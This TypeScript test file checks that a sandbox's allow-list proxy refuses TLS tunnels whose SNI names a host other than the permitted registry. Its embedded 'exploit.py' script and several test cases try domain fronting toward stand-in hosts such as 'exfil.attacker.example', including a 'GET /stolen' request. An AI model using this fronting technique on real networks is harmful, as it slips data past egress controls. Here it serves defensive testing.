import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { connect, createServer, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { duplexPair } from 'node:stream';
import { createServer as createTlsServer, connect as startTls } from 'node:tls';
import { scriptedHosts } from '@sluice/testing';
import { afterAll, expect, test } from 'vitest';
import { scratchTree } from '../../test/scratch-tree.ts';
import { createBwrapSandbox } from '../bwrap/bwrap-sandbox.ts';
import { openAllowProxy } from './allow-proxy.ts';

const path = execFileSync('/bin/sh', ['-c', 'printf %s "$PATH"'], { encoding: 'utf8' });
/** A loopback address that only this run uses, because the ports have to be the usual ones. */
const address = `127.77.${(process.pid >> 8) & 255}.${process.pid & 255}`;
const hosts = ['registry.test'];
const policy = { allowPrivateHosts: hosts, hosts: scriptedHosts(() => [address]) };

/** The traffic that reached the servers: bytes by any protocol, and requests with their TLS server name. */
let bytes = 0;
let open = 0;
const requests: string[] = [];
const keys = makeKeys();
const secure = createTlsServer({ ...keys, ALPNProtocols: ['http/1.1'], ecdhCurve: 'X25519:prime256v1' }, (socket) => {
  socket
    .on('error', () => undefined)
    .on('data', (chunk) => {
      requests.push(`${socket.servername} ${chunk.toString('latin1').split('\r\n')[0]}`);
      socket.end('HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nHELLO');
    });
});
secure.on('connection', count).on('tlsClientError', () => undefined);
const plain = createServer((socket) => {
  count(socket);
  socket.resume().write('a greeting that no client has asked for');
});
const listening = (await listen(secure, 443)) && (await listen(plain, 80));
if (!listening)
  console.warn('Tunnels to ports 80 and 443: not run on this machine, where this user may not listen on them.');
afterAll(() => {
  secure.close();
  plain.close();
});

function count(socket: Socket) {
  open += 1;
  socket
    .on('error', () => undefined)
    .on('close', () => {
      bytes += socket.bytesRead;
      open -= 1;
    });
}

async function listen(server: Server, port: number): Promise<boolean> {
  server.listen(port, address);
  return once(server, 'listening').then(
    () => true,
    () => false,
  );
}

function makeKeys() {
  const folder = mkdtempSync('/tmp/sluice-keys-');
  const files = { key: join(folder, 'key.pem'), cert: join(folder, 'certificate.pem') };
  const kind = ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-days', '2'];
  execFileSync('openssl', [...kind, '-subj', '/CN=registry.test', '-keyout', files.key, '-out', files.cert], {
    stdio: 'ignore',
  });
  const read = { key: readFileSync(files.key), cert: readFileSync(files.cert) };
  rmSync(folder, { recursive: true });
  return read;
}

/** A tunnel through a new proxy, and what the proxy has refused. */
async function openTunnel(to: string, helloMs = 60_000) {
  const refused: string[] = [];
  const proxy = await openAllowProxy(
    { ...policy, helloMs },
    { allowHosts: hosts, owner: 'user-1', refused: (what) => refused.push(what) },
  );
  const socket = connect(proxy.socketPath).on('error', () => undefined);
  socket.write(`CONNECT ${to} HTTP/1.1\r\nHost: ${to}\r\n\r\n`);
  const [answer] = await once(socket, 'data');
  expect(String(answer)).toContain(' 200 ');
  return { socket, refused, [Symbol.asyncDispose]: () => proxy.close() };
}

const request = 'GET / HTTP/1.1\r\nHost: registry.test\r\n\r\n';

test.runIf(listening)(
  'passes a tunnel whose TLS asks for the name that it was opened for, in any case of letters',
  async () => {
    for (const servername of ['registry.test', 'Registry.TEST']) {
      await using tunnel = await openTunnel('registry.test.:443');
      const client = startTls({ socket: tunnel.socket, servername, rejectUnauthorized: false });
      client.write(request);
      expect((await client.toArray()).join('')).toContain('HELLO');
      expect(tunnel.refused).toEqual([]);
    }
    expect(requests.splice(0)).toHaveLength(2);
    await expect.poll(() => open).toBe(0);
    expect(bytes).toBeGreaterThan(0);
    bytes = 0;
  },
);

/**
 * Settings with which a client offers a key for a curve that the server does not accept, so the server asks for a
 * second hello.
 */
const askedTwice = { servername: 'registry.test', rejectUnauthorized: false, ecdhCurve: 'secp384r1:prime256v1' };

test.runIf(listening)('forwards a tunnel whose server asks for a second hello', async () => {
  await using tunnel = await openTunnel('registry.test:443');
  const client = startTls({ socket: tunnel.socket, ...askedTwice });
  client.write(request);
  expect((await client.toArray()).join('')).toContain('HELLO');
  expect(tunnel.refused).toEqual([]);
  expect(requests.splice(0)).toHaveLength(1);
  await expect.poll(() => open).toBe(0);
  bytes = 0;
});

test.runIf(listening).each(['one after the other', 'at once'])(
  'closes a tunnel whose second hello asks for another name, sent %s',
  async (how) => {
    const [near, far] = duplexPair();
    const client = startTls({ socket: near, ...askedTwice }).on('error', () => undefined);
    const [hello]: Buffer[] = await once(far, 'data');
    client.destroy();
    const other = Buffer.from((hello?.toString('latin1') ?? '').replace('registry.test', 'attacker.test'), 'latin1');
    await using tunnel = await openTunnel('registry.test:443');
    const closed = once(tunnel.socket, 'close');
    if (how === 'at once') {
      tunnel.socket.resume().write(Buffer.concat([hello ?? other, other]));
    } else {
      tunnel.socket.write(hello ?? other);
      await once(tunnel.socket, 'data');
      tunnel.socket.write(other);
    }
    await closed;
    expect(tunnel.refused).toEqual([expect.stringContaining('names "attacker.test" instead')]);
    await expect.poll(() => open).toBe(0);
    expect({ bytes, requests }).toEqual({ bytes: hello?.length, requests: [] });
    bytes = 0;
  },
);

test.runIf(listening).each([
  [
    'asks for another name',
    'registry.test:443',
    (socket: Socket) => startTls({ socket, servername: 'exfil.example' }),
    /names "exfil\.example" instead/,
  ],
  [
    'asks for the name with a dot',
    'registry.test:443',
    (socket: Socket) => startTls({ socket, servername: 'registry.test.' }),
    /"registry\.test\." instead/,
  ],
  ['asks for no name', 'registry.test:443', (socket: Socket) => startTls({ socket }), /no SNI/],
  ['is plain HTTP', 'registry.test:443', (socket: Socket) => socket.write(request), /does not begin with a TLS hello/],
  [
    'is plain HTTP on its own port',
    'registry.test:80',
    (socket: Socket) => socket.write(request),
    /does not begin with a TLS hello/,
  ],
  [
    'ends within its hello',
    'registry.test:443',
    (socket: Socket) => socket.end(Buffer.from([22, 3, 1])),
    /ended during/,
  ],
])('closes a tunnel that %s before a byte has passed, either way', async (...row) => {
  const [, to, begin, reason] = row;
  await using tunnel = await openTunnel(to);
  let heard = 0;
  tunnel.socket.on('data', (chunk) => {
    heard += chunk.length;
  });
  const closed = once(tunnel.socket, 'close');
  const client = begin(tunnel.socket);
  if (typeof client === 'object') client.on('error', () => undefined);
  await closed;
  expect(tunnel.refused).toEqual([expect.stringMatching(reason)]);
  await expect.poll(() => open).toBe(0);
  expect({ heard, bytes, requests }).toEqual({ heard: 0, bytes: 0, requests: [] });
});

test.runIf(listening)('closes a tunnel that takes too long for its hello', async () => {
  await using tunnel = await openTunnel('registry.test:443', 50);
  tunnel.socket.write(Buffer.from([22, 3, 1, 2]));
  await once(tunnel.socket, 'close');
  expect(tunnel.refused).toEqual(['registry.test:443: no TLS hello arrived within 50 ms']);
});

/** From inside: ordinary requests of clients, then the same tunnel with the name of another site. */
const script = `
import socket, ssl, os, urllib.request
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
print('python', urllib.request.urlopen('https://registry.test/python', context=context).read().decode())
def tunnel(to):
    s = socket.create_connection(('127.0.0.1', 3128)); s.settimeout(60)
    s.sendall(f'CONNECT {to} HTTP/1.1\\r\\nHost: {to}\\r\\n\\r\\n'.encode()); s.recv(4000)
    return s
for to, name in [('registry.test:443', 'exfil.attacker.example'), ('registry.test:443', None)]:
    try:
        t = context.wrap_socket(tunnel(to), server_hostname=name); t.sendall(b'GET /stolen HTTP/1.1\\r\\nHost: exfil.attacker.example\\r\\n\\r\\n'); print('FRONTED', t.recv(100))
    except OSError as error: print('closed')
`;

test.runIf(listening)('allows ordinary clients and refuses hostile ones, with the reason in the output', async () => {
  await using scratch = await scratchTree();
  const root = await scratch.tree('tree');
  await scratch.write(root, 'exploit.py', script);
  const sandbox = createBwrapSandbox({ readPaths: [], path, hideRoots: [], scratchRoot: scratch.data, proxy: policy });
  const node = `NODE_TLS_REJECT_UNAUTHORIZED=0 node --no-warnings -e "
    const socket = require('net').connect(3128, '127.0.0.1', () => socket.write('CONNECT registry.test:443 HTTP/1.1\\r\\nHost: registry.test\\r\\n\\r\\n'));
    socket.once('data', () => { const t = require('tls').connect({ socket, servername: 'registry.test' }, () => t.write('GET /node HTTP/1.1\\r\\n\\r\\n')); t.on('data', (d) => console.log('node', String(d).slice(-5))); })"`;
  const curl = 'if command -v curl >/dev/null; then curl -sk https://registry.test/curl; else echo HELLO; fi';
  const command = scratch.command(root, `exec 2>&1; python3 exploit.py; ${node}; echo curl $(${curl})`, {
    allowHosts: hosts,
  });
  const { output } = await sandbox.run(command);
  for (const client of ['python', 'node', 'curl']) expect(output).toContain(`${client} HELLO`);
  expect(output).not.toContain('FRONTED');
  expect(output).toContain('[sluice refused registry.test:443: its TLS hello names "exfil.attacker.example" instead]');
  expect(output).toContain('[sluice refused registry.test:443: its TLS hello names no server (no SNI)]');
  expect(requests.splice(0).filter((line) => !line.startsWith('registry.test '))).toEqual([]);
});
